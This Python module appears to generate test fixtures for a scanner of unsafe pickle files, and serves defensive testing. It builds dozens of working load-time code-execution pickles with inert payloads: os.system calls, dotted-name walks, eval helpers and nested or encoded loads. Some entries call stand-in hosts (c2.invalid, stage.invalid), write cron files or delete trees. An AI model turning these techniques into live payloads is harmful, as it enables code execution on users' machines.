"""Pickles that run something when they are loaded: `echo inert`, at most."""
import base64
import marshal
import pickle
import zlib

from . import ops as o
from .core import bad, floats
from .ops import BUILD, DUP, EMPTY_TUPLE, MEMOIZE, NEWOBJ, NEWOBJ_EX, NONE, POP, REDUCE, STACK_GLOBAL, STOP, call, data, dic, frame, get, lst, named, num, old, proto, put, short, stacked, text, tup, whole

IMPORT = named("importlib", "import_module")
GETATTR = named("builtins", "getattr")
OS = call(IMPORT, text("os"))


def p(name, what, raw, expect="held"):
    bad(name, "pickle", what, lambda r: raw(r) if callable(raw) else raw, expect)


# How a function is named

p("p0-global.pkl", "protocol 0: GLOBAL posix.system, REDUCE", named("posix", "system") + tup(old(o.ECHO)) + REDUCE + STOP)
p("p1-nt.pkl", "protocol 1: the name of the function on Windows", named("nt", "system") + tup(text(o.ECHO)) + REDUCE + STOP)
p("p2-os.pkl", "protocol 2: os.system among numbers", whole(dic(text("epoch"), num(4), text("loss"), o.HARM)))
p("p3-popen.pkl", "protocol 3: subprocess.Popen with a list", whole(call(named("subprocess", "Popen"), lst(text("echo"), text("inert"))), 3))
p("p4-memo.pkl", "protocol 4: the names come out of the memo, out of order", proto(4) + frame(short("system") + MEMOIZE + POP + short("os") + MEMOIZE + POP + get(1) + get(0) + STACK_GLOBAL + tup(short(o.ECHO)) + REDUCE + STOP))
p("p4-memo-overwritten.pkl", "protocol 4: a harmless name in the memo is overwritten by another", proto(4) + short("collections") + put(0) + POP + short("OrderedDict") + put(1) + POP + short("os") + put(0) + POP + short("system") + put(1) + POP + get(0) + get(1) + STACK_GLOBAL + tup(short(o.ECHO)) + REDUCE + STOP)
p("p5-frames.pkl", "protocol 5: several frames and a byte array before the call", proto(5) + frame(b"\x96" + (8).to_bytes(8, "little") + b"weights!" + POP) + frame(stacked("os", "system") + tup(short(o.ECHO)) + REDUCE) + STOP)
p("p4-dup.pkl", "the module name is duplicated on the stack and used for both names", proto(4) + short("runpy") + DUP + POP + short("run_module") + STACK_GLOBAL + tup(short("antigravity")) + REDUCE + STOP)
p("dotted-name.pkl", "a name with dots walks from an allowed module to os", proto(4) + stacked("torch.serialization", "os.system") + tup(short(o.ECHO)) + REDUCE + STOP)
p("dotted-numpy.pkl", "a walk from numpy to os by attributes", proto(4) + stacked("numpy", "f2py.diagnose.os.system") + tup(short(o.ECHO)) + REDUCE + STOP)
p("dotted-collections.pkl", "a walk from collections to the modules of the system", proto(4) + stacked("collections", "_sys.modules.get") + tup(short("os")) + REDUCE + STOP)
p("python2-names.pkl", "the names of Python 2, which are mapped to builtins", named("__builtin__", "eval") + tup(old("__import__('os').system('echo inert')")) + REDUCE + STOP)
p("commands-getoutput.pkl", "the commands module of Python 2", named("commands", "getoutput") + tup(old(o.ECHO)) + REDUCE + STOP)

# How it is called

p("inst.pkl", "INST instead of GLOBAL and REDUCE", b"(" + old(o.ECHO) + b"ios\nsystem\n" + STOP)
p("obj.pkl", "OBJ with the class on the stack", b"(" + o.SYSTEM + text(o.ECHO) + b"o" + STOP)
p("newobj.pkl", "NEWOBJ of subprocess.Popen", whole(named("subprocess", "Popen") + tup(lst(text("echo"))) + NEWOBJ))
p("newobj-ex.pkl", "NEWOBJ_EX with arguments by name", proto(4) + stacked("subprocess", "Popen") + EMPTY_TUPLE + dic(short("args"), lst(short("echo"))) + NEWOBJ_EX + STOP)
p("ext-code.pkl", "a code is registered for os.system and then used", whole(call(named("copyreg", "add_extension"), text("os"), text("system"), num(240)) + POP + b"\x82\xf0" + tup(text(o.ECHO)) + REDUCE))
p("ext-unknown.pkl", "a code of the registry that nobody can know is called", whole(b"\x83\x10\x27" + tup(text(o.ECHO)) + REDUCE))
p("build-setstate.pkl", "BUILD: an object gets __setstate__ and then a state, which is the command", whole(named("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + dic(text("__setstate__"), o.SYSTEM) + BUILD + text(o.ECHO) + BUILD))
p("persistent.pkl", "the call stands inside the tuple of a persistent id", whole(o.MARK + text("storage") + o.HARM + text("0") + text("cpu") + num(8) + b"t" + b"Q"))
p("list-map.pkl", "map of eval over a list, drawn by list", whole(call(named("builtins", "list"), call(named("builtins", "map"), named("builtins", "eval"), lst(text("print('inert')"))))))
p("starmap.pkl", "itertools.starmap over os.system, drawn by bytes", whole(call(named("builtins", "bytes"), call(named("itertools", "starmap"), o.SYSTEM, lst(tup(text(o.ECHO)))))))
p("partial.pkl", "functools.partial of os.system, called without arguments", whole(call(call(named("functools", "partial"), o.SYSTEM, text(o.ECHO)))))
p("operator-call.pkl", "operator.call as the caller", whole(call(named("operator", "call"), o.SYSTEM, text(o.ECHO))))

# Functions that lead to functions

p("getattr-chain.pkl", "getattr of an imported module", whole(call(call(GETATTR, call(named("builtins", "__import__"), text("os")), text("system")), text(o.ECHO))))
p("import-module.pkl", "importlib.import_module and getattr", whole(call(call(GETATTR, OS, text("popen")), text(o.ECHO))))
p("attrgetter.pkl", "operator.attrgetter on a module", whole(call(call(call(named("operator", "attrgetter"), text("system")), OS), text(o.ECHO))))
p("methodcaller.pkl", "operator.methodcaller on a module", whole(call(call(named("operator", "methodcaller"), text("system"), text(o.ECHO)), OS)))
p("itemgetter-globals.pkl", "operator.itemgetter on the dictionary of a module", whole(call(call(named("operator", "itemgetter"), text("eval")), named("builtins", "__dict__"))))
p("pydoc-locate.pkl", "pydoc.locate makes a function of a string", whole(call(call(named("pydoc", "locate"), text("os.system")), text(o.ECHO))))
p("pkgutil-resolve.pkl", "pkgutil.resolve_name makes a function of a string", whole(call(call(named("pkgutil", "resolve_name"), text("os:system")), text(o.ECHO))))
p("logging-resolve.pkl", "the configuration of logging, which calls what it names", whole(call(named("logging.config", "dictConfig"), dic(text("version"), num(1), text("handlers"), dic(text("h"), dic(text("()"), text("os.system"), text("command"), text(o.ECHO)))))))
p("sys-modules-get.pkl", "a module out of sys.modules", whole(call(call(GETATTR, named("sys", "modules"), text("get")), text("os"))))

# Functions that run code

for name, what, raw in [
    ("runpy.pkl", "runpy runs a path", call(named("runpy", "run_path"), text("payload.py"))),
    ("timeit.pkl", "timeit runs a statement", call(named("timeit", "timeit"), text("print('inert')"), text("pass"), named("timeit", "default_timer"), num(1))),
    ("cprofile.pkl", "cProfile runs a statement", call(named("cProfile", "run"), text("print('inert')"))),
    ("profile-runctx.pkl", "profile runs a statement in a context", call(named("profile", "runctx"), text("print('inert')"), dic(), dic())),
    ("trace.pkl", "trace.Trace runs a statement", call(call(named("operator", "methodcaller"), text("run"), text("print('inert')")), call(named("trace", "Trace")))),
    ("code-interact.pkl", "opens a console", call(named("code", "interact"))),
    ("bdb.pkl", "a debugger runs a statement", call(named("bdb", "Bdb.run"), call(named("bdb", "Bdb")), text("print('inert')"))),
    ("doctest.pkl", "doctest runs a script", call(named("doctest", "debug_script"), text("print('inert')"))),
    ("eval.pkl", "builtins.eval", call(named("builtins", "eval"), text("print('inert')"))),
    ("exec.pkl", "builtins.exec", call(named("builtins", "exec"), text("print('inert')"))),
    ("compile-exec.pkl", "compile, then exec", call(named("builtins", "exec"), call(named("builtins", "compile"), text("print('inert')"), text("m"), text("exec")))),
    ("open-write.pkl", "opens a file for writing", call(named("builtins", "open"), text("/etc/cron.d/inert"), text("w"))),
    ("fileio.pkl", "opens a file by the class under open", call(named("_io", "FileIO"), text("/etc/profile.d/inert.sh"), text("w"))),
    ("dunder-import.pkl", "imports a module that lies beside", call(named("builtins", "__import__"), text("payload"))),
    ("ctypes.pkl", "loads a library", call(named("ctypes", "CDLL"), text("./libpayload.so"))),
    ("socket.pkl", "opens a connection", call(named("socket", "create_connection"), tup(text("c2.invalid"), num(443)))),
    ("webbrowser.pkl", "opens an address in the browser", call(named("webbrowser", "open"), text("https://login.invalid/"))),
    ("smtplib.pkl", "connects to a mail host", call(named("smtplib", "SMTP"), text("mail.invalid"), num(25))),
    ("rmtree.pkl", "removes a tree of files", call(named("shutil", "rmtree"), text("/home/inert"))),
    ("urlopen.pkl", "fetches an address", call(named("urllib.request", "urlopen"), text("http://stage.invalid/a"))),
    ("requests-get.pkl", "fetches an address by a well-known package", call(named("requests", "get"), text("http://stage.invalid/b"))),
    ("posixsubprocess.pkl", "the private function under subprocess", call(named("_posixsubprocess", "fork_exec"), lst(data(b"/bin/echo")))),
    ("spawnv-passfds.pkl", "a helper of multiprocessing that starts programs", call(named("multiprocessing.util", "spawnv_passfds"), data(b"/bin/echo"), lst(data(b"echo")), EMPTY_TUPLE)),
    ("pip-main.pkl", "installs a package", call(named("pip", "main"), lst(text("install"), text("inert-package-invalid")))),
    ("ensurepip.pkl", "runs pip through ensurepip", call(named("ensurepip", "_run_pip"), lst(text("install"), text("inert-package-invalid")))),
    ("zipimport.pkl", "imports out of a zip", call(named("zipimport", "zipimporter"), text("payload.zip"))),
    ("asyncio-shell.pkl", "asyncio starts a shell", call(named("asyncio.subprocess", "create_subprocess_shell"), text(o.ECHO))),
    ("uuid-getter.pkl", "a private helper of uuid that runs a program", call(named("uuid", "_get_command_stdout"), text("echo"), text("inert"))),
    ("distutils-spawn.pkl", "distutils runs a program", call(named("distutils.spawn", "spawn"), lst(text("echo"), text("inert")))),
    ("numpy-runstring.pkl", "a helper of numpy's tests that executes text", call(named("numpy.testing._private.utils", "runstring"), text("print('inert')"), dic())),
    ("numpy-f2py-eval.pkl", "a helper of numpy's translator that evaluates text", call(named("numpy.f2py.crackfortran", "myeval"), text("print('inert')"))),
    ("pandas-eval.pkl", "pandas evaluates text", call(named("pandas", "eval"), text("@__builtins__['print']('inert')"))),
    ("torch-run.pkl", "a helper of torch that runs a command", call(named("torch.utils.collect_env", "run"), text(o.ECHO))),
    ("torch-profile.pkl", "a helper of torch that runs code under a profile", call(named("torch.utils.bottleneck.__main__", "run_cprofile"), text("print('inert')"), dic())),
    ("torch-hub.pkl", "torch fetches a repository and runs it", call(named("torch.hub", "load"), text("someone/inert-invalid"), text("model"))),
    ("sympy.pkl", "sympy evaluates text", call(named("sympy", "sympify"), text("__import__('os').system('echo inert')"))),
]:
    p(name, what, whole(raw))

# Nested and encoded

p("nested-loads.pkl", "pickle.loads of a second pickle in bytes", whole(call(named("pickle", "loads"), data(o.EVIL))))
p("nested-private-loads.pkl", "_pickle.loads of a second pickle", whole(call(named("_pickle", "loads"), data(o.EVIL))))
p("nested-torch-load.pkl", "torch.load of a second file in memory", whole(call(named("torch", "load"), call(named("_io", "BytesIO"), data(o.EVIL)))))
p("nested-joblib.pkl", "joblib.load of a file that lies beside", whole(call(named("joblib", "load"), text("second.joblib"))))
p("nested-dill.pkl", "dill.loads of a second pickle", whole(call(named("dill", "loads"), data(o.EVIL))))
p("nested-read-pickle.pkl", "pandas.read_pickle of an address", whole(call(named("pandas", "read_pickle"), text("http://stage.invalid/c.pkl"))))
p("nested-numpy-load.pkl", "numpy.load which may load pickles", whole(call(named("numpy", "load"), text("second.npy"), NONE, b"\x88")))
CODE = base64.b64encode(zlib.compress(b"print('inert')")).decode()
p("decode-chain.pkl", "exec of zlib of base64", whole(call(named("builtins", "exec"), call(named("zlib", "decompress"), call(named("base64", "b64decode"), text(CODE))))))
p("codecs-rot13.pkl", "exec of a text in rot13", whole(call(named("builtins", "exec"), call(named("_codecs", "decode"), text("cevag('varea')"), text("rot13")))))
p("marshal-function.pkl", "a function made of marshalled code", whole(call(call(named("types", "FunctionType"), call(named("marshal", "loads"), data(marshal.dumps(compile("print('inert')", "m", "exec")))), dic()))))
p("cloudpickle-function.pkl", "a function as cloudpickle writes them", whole(call(named("cloudpickle.cloudpickle", "_make_function"), call(named("marshal", "loads"), data(marshal.dumps(compile("print('inert')", "m", "exec")))), dic(), NONE, NONE, NONE)))
p("dill-function.pkl", "code as dill writes it", whole(call(named("dill._dill", "_create_function"), call(named("dill._dill", "_create_code"), num(0), data(b"d\0S\0")), dic())))

# Names that nobody knows

p("unknown-class.pkl", "calls a class of a module that nobody knows", whole(call(named("mymodel_utils.layers", "Restore"), text("weights.bin"))), "told")
p("main-class.pkl", "makes an object of a class that was typed into a console", whole(named("__main__", "Payload") + EMPTY_TUPLE + NEWOBJ + dic(text("cmd"), text(o.ECHO)) + BUILD), "told")
p("private-module.pkl", "calls a function of a private module of a known library", whole(call(named("sklearn._private_backport._run", "restore"), text("x"))), "told")

# Broken, more than one, in disguise

p("broken-after.pkl", "the stream breaks after the call", proto(2) + o.HARM + b"\xff\xff\xff")
p("no-stop.pkl", "the stream ends without STOP after the call", proto(2) + o.HARM + text("weights"))
p("stack-underflow.pkl", "an impossible opcode follows the call", proto(2) + o.HARM + POP + POP + POP + STOP)
p("trailing.pkl", "a harmless pickle, and a second one behind it", lambda r: pickle.dumps({"w": [1.0, 2.0]}, 2) + o.EVIL)
p("trailing-far.pkl", "a second pickle after many harmless ones", lambda r: b"".join(pickle.dumps({"step": i}, 4) for i in range(400)) + o.EVIL)
p("deep-in-state.pkl", "one value among four hundred calls", lambda r: whole(dic(*(text(f"layer.{i}.w") + data(floats(r, 64)) for i in range(400)), text("_extra_state"), o.HARM)))
p("big-strings-first.pkl", "two megabytes of bytes before the call", lambda r: whole(data(r.randbytes(2_000_000)) + POP + o.HARM))
p("notes.txt", "a pickle with the name of a text", o.EVIL)
p("weights.safetensors", "a pickle with the name of a safetensors file", o.EVIL)
p("model.onnx", "a pickle with the name of an ONNX file", o.EVIL)
p("cover.png", "a pickle with the name of a picture", o.EVIL)
p("looks-like.gguf", "begins like a GGUF file: G is the opcode of a float, which is taken off again", b"GGUF\x03\0\0\0\0" + POP + o.HARM + STOP)
p("vocab.bin", "a pickle without its protocol mark", o.HARM + STOP)
